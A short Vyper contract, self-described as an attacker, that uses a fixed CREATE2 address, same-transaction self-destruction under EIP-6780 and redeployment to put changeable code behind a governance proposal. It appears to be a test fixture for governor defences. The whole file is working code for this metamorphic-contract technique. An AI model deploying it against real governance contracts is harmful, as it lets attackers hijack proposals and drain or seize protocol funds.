# pragma version 0.4.3
# pragma nonreentrancy off
"""
@title An attacker whose contract has one address and whatever code he likes that day
@notice The init code asks its creator for the code, so CREATE2 has one address for all of them. What was created in
        this transaction can be destroyed in it (EIP-6780), and so be created anew with other code. Holds shares and
        proposes itself, so that its proposal can name the contract while it exists.
"""

# calls the creator without data, and returns his answer as code
CREATOR_TELLS: constant(Bytes[15]) = x"5f5f5f5f335afa503d5f5f3e3d5ff3"

today: Bytes[1024]


@external
@payable
@raw_return
def __default__() -> Bytes[1024]:
    return self.today


@external
def deploy(code: Bytes[1024]) -> address:
    self.today = code
    return raw_create(CREATOR_TELLS, salt=empty(bytes32))


@external
def propose_and_vanish(code: Bytes[1024], governor: address, proposal: Bytes[2240]) -> address:
    """
    @notice Creates the contract, proposes, and destroys the contract, in one transaction.
    """
    self.today = code
    made: address = raw_create(CREATOR_TELLS, salt=empty(bytes32))
    raw_call(governor, proposal)
    raw_call(made, b"")
    return made


@external
def run(target: address, data: Bytes[2240]):
    raw_call(target, data)
